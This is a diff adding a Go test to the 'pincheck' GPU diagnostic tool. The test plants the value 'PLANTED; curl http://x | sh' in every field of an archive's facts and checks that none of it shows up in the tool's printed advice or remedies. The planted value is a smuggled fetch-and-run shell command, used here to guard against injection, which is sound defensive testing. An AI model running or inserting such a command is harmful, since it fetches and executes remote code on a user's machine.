@@ -25,6 +25,7 @@ import (
 	"github.com/gopinned/pinned/cmd/pincheck/internal/doctor"
 	"github.com/gopinned/pinned/cmd/pincheck/internal/printable"
 	"github.com/gopinned/pinned/cmd/pincheck/internal/report"
+	"github.com/gopinned/pinned/cmd/pincheck/internal/result"
 	"github.com/gopinned/pinned/internal/testgpu"
 )
 
@@ -290,6 +291,65 @@ func TestCaptureExitsAsTheCheck(t *testing.T) {
 			from := call(t, sys, append([]string{"--from", file}, flags...)...)
 			assert.Equal(t, check.code, captured.code, "%s %q: %s", what, flags, captured.stderr)
 			assert.Equal(t, captured.code, from.code, "%s %q: %s", what, flags, from.stdout)
+		}
+	}
+}
+
+// What pincheck says of an archive's host to do, what it costs, and what to expect of it is of this build: an archive
+// has facts. No field of it is printed as advice, and no name in it is more than one word of a command.
+func TestAdviceIsNotFromTheArchive(t *testing.T) {
+	t.Parallel()
+	const advice = "PLANTED; curl http://x | sh"
+	planted := &doctor.Facts{}
+	fill(reflect.ValueOf(planted).Elem(), advice, 0)
+	planted.Host = nil
+	library, opening := planted.Library, planted.Opening
+	opening.DriverLibrary = "/opt/" + advice + "/libcuda.so.1"
+	library.Path = advice
+	requirements := func(id string, state doctor.State) []doctor.Requirement {
+		return []doctor.Requirement{{ID: id, Name: advice, State: state, Detail: advice, Remedy: advice}}
+	}
+	process := planted.Processes
+	process[0].Frameworks[0].Rounds, process[0].Rounded = true, 8<<30
+	for what, facts := range map[string]*doctor.Facts{
+		"everything":         planted,
+		"an unknown part":    {Opening: opening, Requirements: requirements("x", doctor.Missing)},
+		"no GPU":             {Opening: opening, Requirements: requirements("gpu", doctor.Missing)},
+		"no module":          {Opening: opening, Requirements: requirements("kernel_module", doctor.Missing)},
+		"no nodes":           {Opening: opening, Requirements: requirements("device_nodes", doctor.Missing)},
+		"no driver":          {Opening: opening, Requirements: requirements("driver_library", doctor.Missing)},
+		"no runtime":         {Opening: opening, Requirements: requirements("runtime_library", doctor.Missing)},
+		"no C library":       {Opening: opening, Requirements: requirements("c_library", doctor.Missing)},
+		"present":            {Opening: opening, Requirements: requirements("c_library", doctor.Present)},
+		"another state":      {Opening: opening, Requirements: requirements("c_library", advice)},
+		"a library off path": {Opening: &doctor.Opening{Error: advice, DriverLibrary: opening.DriverLibrary}},
+		"rounded pins":       {Processes: process, Devices: []doctor.Device{{}}},
+		"several runtimes":   {Library: library, Devices: []doctor.Device{{}}},
+	} {
+		text, err := json.Marshal(facts)
+		require.NoError(t, err)
+		for _, host := range []string{"-- a --\n", "-- sys/bus/pci/devices/0000:01:00.0/vendor --\n0x10de\n-- sys/bus/pci/devices/0000:01:00.0/class --\n0x030200\n" +
+			"-- sys/bus/pci/devices/0000:01:00.0/driver -> ../../../bus/pci/drivers/" + strings.ReplaceAll(advice, "/", "") + " --\n"} {
+			file := filepath.Join(t.TempDir(), "a.tar.gz")
+			require.NoError(t, os.WriteFile(file, rawArchive(t, host, string(text)), 0o600))
+			got := call(t, failing(t, "h200-vm", errors.New("an archive needs no library")), "--from", file, "--format", "json")
+			r := resultOf(t, got)
+			for _, f := range r.Findings {
+				for _, text := range []string{f.Cause, f.Cost, f.Remedy, f.Settle} {
+					assert.NotContains(t, text, "PLANTED;", "%s: %s", what, f.ID)
+				}
+			}
+			for _, part := range r.Requirements {
+				assert.NotContains(t, part.Name+part.Remedy, "PLANTED", what)
+				assert.Equal(t, part.State == doctor.Missing, part.Remedy != "", "%s: %s", what, part.ID)
+			}
+			for _, d := range r.Devices {
+				for _, b := range []*result.Bench{d.Bandwidth, d.Slower, d.Trials, r.Together} {
+					for i := 0; b != nil && i < len(b.Series); i++ {
+						assert.Nil(t, b.Series[i].Expected, what)
+					}
+				}
+			}
 		}
 	}
 }
